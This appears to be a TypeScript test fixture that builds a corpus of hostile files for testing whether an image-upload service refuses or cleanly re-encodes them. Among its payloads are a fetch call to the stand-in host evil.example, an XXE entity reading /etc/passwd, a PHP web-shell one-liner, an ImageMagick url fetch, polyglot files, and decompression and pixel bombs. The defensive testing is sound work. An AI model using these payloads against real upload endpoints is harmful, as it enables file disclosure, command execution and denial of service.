import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'

/** Part of every payload: stored pictures must not contain it. */
export const marker = 'HOSTILE-PAYLOAD-d41d8cd9'
const script = `<script>fetch('https://evil.example/${marker}')</script>`

/** `refused` is a refusal with a key; `redrawn` is stored as a new picture without the payload. */
export interface Hostile {
  readonly name: string
  readonly bytes: Buffer
  readonly end: 'refused' | 'redrawn'
}

const text = (content: string): Buffer => Buffer.from(content, 'latin1')
const join = (...parts: readonly (Buffer | readonly number[] | string)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? text(part) : Buffer.from(part))))

const chunk = (type: string, data: Buffer): Buffer => {
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(join(type, data)))
  return join(length, type, data, sum)
}
const pngMagic = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]
const header = (width: number, height: number, depth: number, colour: number): Buffer => {
  const data = Buffer.alloc(13)
  data.writeUInt32BE(width, 0)
  data.writeUInt32BE(height, 4)
  data.set([depth, colour, 0, 0, 0], 8)
  return chunk('IHDR', data)
}
const end = chunk('IEND', Buffer.alloc(0))
/** A PNG of black pixels: few bytes, whatever its dimensions. */
const blackPng = (width: number, height: number, pixels: Buffer): Buffer =>
  join(pngMagic, header(width, height, 1, 0), chunk('IDAT', deflateSync(pixels)), end)
/** Inserts chunks after the header of a PNG, which is 33 bytes long. */
const withChunks = (png: Buffer, ...chunks: readonly Buffer[]): Buffer => join(png.subarray(0, 33), ...chunks, png.subarray(33))

const segment = (kind: number, data: Buffer): Buffer => {
  const length = Buffer.alloc(2)
  length.writeUInt16BE(data.length + 2)
  return join([0xff, kind], length, data)
}
const withSegment = (jpeg: Buffer, kind: number, data: Buffer): Buffer =>
  join(jpeg.subarray(0, 2), segment(kind, data), jpeg.subarray(2))

/** A JPEG that declares large dimensions and contains no data. */
const hugeJpeg = (): Buffer => {
  const frame = Buffer.from([8, 0xff, 0xff, 0xff, 0xff, 3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0])
  return join([0xff, 0xd8], segment(0xc0, frame), segment(0xda, Buffer.from([3, 1, 0, 2, 0, 3, 0, 0, 63, 0])), [0xff, 0xd9])
}

const riff = (...chunks: readonly Buffer[]): Buffer => {
  const size = Buffer.alloc(4)
  size.writeUInt32LE(4 + chunks.reduce((sum, part) => sum + part.length, 0))
  return join('RIFF', size, 'WEBP', ...chunks)
}
const webpChunk = (type: string, data: Buffer): Buffer => {
  const size = Buffer.alloc(4)
  size.writeUInt32LE(data.length)
  return join(type, size, data, data.length % 2 === 1 ? [0] : [])
}
const extended = (flags: number, width: number, height: number): Buffer => {
  const data = Buffer.alloc(10)
  data[0] = flags
  data.writeUIntLE(width - 1, 4, 3)
  data.writeUIntLE(height - 1, 7, 3)
  return webpChunk('VP8X', data)
}

/** A ZIP archive of one file, which can be appended to any other file. */
const zip = (): Buffer => {
  const content = deflateRawSync(Buffer.from(script))
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50)
  const tail = Buffer.alloc(22)
  tail.writeUInt32LE(0x06054b50)
  return join(head, content, marker, tail)
}

/** Valid pictures from which the others are made. */
const base = async () => {
  const noise = Buffer.from(Array.from({ length: 320 * 240 * 3 }, (_, index) => (index * 7919 + (index >> 3) * 104_729) & 0xff))
  const raw = { raw: { width: 320, height: 240, channels: 3 } } as const
  const plain = () => sharp(noise, raw)
  return {
    plain,
    noise,
    jpeg: await plain().jpeg().toBuffer(),
    png: await plain().png().toBuffer(),
    webp: await plain().webp().toBuffer(),
  }
}
type Base = Awaited<ReturnType<typeof base>>

const notPictures = async ({ plain, noise }: Base): Promise<readonly Hostile[]> => {
  const gif = await plain().gif().toBuffer()
  const frames = { raw: { width: 320, height: 240, channels: 3, pageHeight: 120 } } as const
  const files: Readonly<Record<string, Buffer>> = {
    'nothing at all': Buffer.alloc(0),
    'one byte': Buffer.from([0xff]),
    'a text': text('hello'),
    'HTML with a script': text(`<!doctype html>${script}`),
    'SVG with a script': text(`<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300">${script}</svg>`),
    'SVG with an external entity': text(
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg width="400" height="300"><text>&x;</text></svg>`,
    ),
    'SVG behind the magic of JPEG': join([0xff, 0xd8, 0xff], `<svg width="400" height="300">${script}</svg>`),
    'SVG behind the magic of PNG': join(pngMagic, `<svg width="400" height="300">${script}</svg>`),
    GIF: gif,
    'a moving GIF': await sharp(noise, frames).gif().toBuffer(),
    'GIF that is a script too': join('GIF89a/*', marker, '*/=1;alert(1)'),
    TIFF: await plain().tiff().toBuffer(),
    AVIF: await plain().avif({ effort: 0 }).toBuffer(),
    BMP: join('BM', Buffer.alloc(60)),
    ICO: join([0, 0, 1, 0, 1, 0], Buffer.alloc(60)),
    PSD: join('8BPS', Buffer.alloc(60)),
    PDF: text(`%PDF-1.7\n${script}\n%%EOF`),
    ZIP: zip(),
    gzip: gzipSync(script),
    PHP: text(`<?php system($_GET['${marker}']); ?>`),
    'a program for Linux': join([0x7f], 'ELF', Buffer.alloc(60)),
    'a program for Windows': join('MZ', Buffer.alloc(60)),
    'a film': join([0, 0, 0, 24], 'ftypmp42', Buffer.alloc(60)),
    'ImageMagick script': text(`push graphic-context\nfill 'url(https://evil.example/${marker})'\npop graphic-context`),
  }
  return Object.entries(files).map(([name, bytes]) => ({ name, bytes, end: 'refused' }))
}

const broken = async ({ jpeg, png, webp, noise }: Base): Promise<readonly Hostile[]> => {
  const half = (bytes: Buffer): Buffer => bytes.subarray(0, bytes.length >> 1)
  const flipped = (bytes: Buffer, at: number): Buffer => {
    const copy = Buffer.from(bytes)
    copy[at] = (copy[at] ?? 0) ^ 0xff
    return copy
  }
  const frames = { raw: { width: 320, height: 240, channels: 3, pageHeight: 120 } } as const
  const control = Buffer.alloc(8)
  control.writeUInt32BE(2)
  const files: Readonly<Record<string, Buffer>> = {
    'the magic of JPEG alone': jpeg.subarray(0, 3),
    'the magic of PNG alone': png.subarray(0, 8),
    'the magic of WebP alone': webp.subarray(0, 12),
    'half a JPEG': half(jpeg),
    'half a PNG': half(png),
    'half a WebP': half(webp),
    'the head of a JPEG': jpeg.subarray(0, 200),
    'PNG with a wrong sum in its head': flipped(png, 30),
    'PNG with a wrong width': flipped(png, 18),
    'PNG of no size': blackPng(0, 0, Buffer.alloc(1)),
    'PNG of the largest size': blackPng(0x7fff_ffff, 0x7fff_ffff, Buffer.alloc(1)),
    'a bomb: PNG of 400 megapixels in 50 KB': blackPng(20_000, 20_000, Buffer.alloc(20_000 * 2501)),
    'PNG of one line of 24 million pixels': blackPng(24_000_000, 1, Buffer.alloc(3_000_001)),
    'JPEG of 65,535 × 65,535 without pixels': hugeJpeg(),
    'WebP of 16,384 × 16,384 without pixels': riff(extended(0, 16_384, 16_384)),
    'WebP whose length is a lie': join(webp.subarray(0, 4), [0xff, 0xff, 0xff, 0x7f], webp.subarray(8, 40)),
    'a moving PNG': withChunks(png, chunk('acTL', control)),
    'a moving WebP': await sharp(noise, frames).webp().toBuffer(),
    'WebP that says it moves': riff(extended(0x02, 320, 240), webp.subarray(12)),
    'PNG of one pixel': blackPng(1, 1, Buffer.from([0, 0])),
    'JPEG of 63 pixels': await sharp(noise.subarray(0, 63 * 63 * 3), { raw: { width: 63, height: 63, channels: 3 } })
      .jpeg()
      .toBuffer(),
  }
  return Object.entries(files).map(([name, bytes]) => ({ name, bytes, end: 'refused' }))
}

const carriers = ({ jpeg, png, webp }: Base): Readonly<Record<string, Buffer>> => {
  const exif = join('Exif\0\0MM', [0, 42, 0, 0, 0, 8, 0, 0], marker)
  const body = webp.subarray(12)
  return {
    'JPEG with HTML behind it': join(jpeg, script),
    'JPEG that is a ZIP too': join(jpeg, zip()),
    'PNG that is a ZIP too': join(png, zip()),
    'WebP with a script behind it': join(webp, script),
    'JPEG with a comment': withSegment(jpeg, 0xfe, text(script)),
    'JPEG with EXIF': withSegment(jpeg, 0xe1, exif),
    'JPEG with XMP': withSegment(jpeg, 0xe1, join('http://ns.adobe.com/xap/1.0/\0', script)),
    'JPEG with a broken colour profile': withSegment(jpeg, 0xe2, join('ICC_PROFILE\0', [1, 1], marker)),
    'JPEG with Photoshop data': withSegment(jpeg, 0xed, join('Photoshop 3.0\0', marker)),
    'JPEG with 60 KB of an unknown segment': withSegment(jpeg, 0xef, Buffer.concat([text(marker), Buffer.alloc(60_000)])),
    'PNG with a text': withChunks(png, chunk('tEXt', join('Comment\0', script))),
    'PNG with a packed text': withChunks(png, chunk('zTXt', join('Comment\0\0', deflateSync(script)))),
    'PNG with an international text': withChunks(png, chunk('iTXt', join('XML:com.adobe.xmp\0\0\0\0\0', script))),
    'PNG with EXIF': withChunks(png, chunk('eXIf', exif.subarray(6))),
    'PNG with a chunk of its own': withChunks(png, chunk('evIl', text(marker))),
    'WebP with EXIF and XMP': riff(extended(0x0c, 320, 240), body, webpChunk('EXIF', exif), webpChunk('XMP ', text(script))),
  }
}

const unusual = async ({ plain, jpeg, png }: Base): Promise<Readonly<Record<string, Buffer>>> => ({
  'JPEG in the inks of print': await plain().toColourspace('cmyk').jpeg().toBuffer(),
  'PNG of 16 bits': await plain().toColourspace('rgb16').png().toBuffer(),
  'PNG in grey with transparency': await plain().greyscale().ensureAlpha(0.5).png().toBuffer(),
  'PNG with a palette': await plain().png({ palette: true }).toBuffer(),
  'PNG in seven passes': await plain().png({ progressive: true }).toBuffer(),
  'PNG of one bit': blackPng(800, 600, Buffer.alloc(600 * 101)),
  'JPEG in passes': await plain().jpeg({ progressive: true }).toBuffer(),
  'JPEG of 24 megapixels': await plain().resize(6000, 4000, { fit: 'fill' }).jpeg({ quality: 30 }).toBuffer(),
  'PNG with a packed text that unpacks to 64 MB': withChunks(
    png,
    chunk('zTXt', join('Comment\0\0', deflateSync(Buffer.alloc(64_000_000)))),
  ),
  'JPEG with a false orientation': withSegment(
    jpeg,
    0xe1,
    Buffer.from('Exif\0\0II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0\xff\xff\0\0', 'latin1'),
  ),
})

/** The whole corpus, created for every run. */
export const hostileFiles = async (): Promise<readonly Hostile[]> => {
  const pictures = await base()
  const kept = { ...carriers(pictures), ...(await unusual(pictures)) }
  return [
    ...(await notPictures(pictures)),
    ...(await broken(pictures)),
    ...Object.entries(kept).map(([name, bytes]) => ({ name, bytes, end: 'redrawn' as const })),
  ]
}
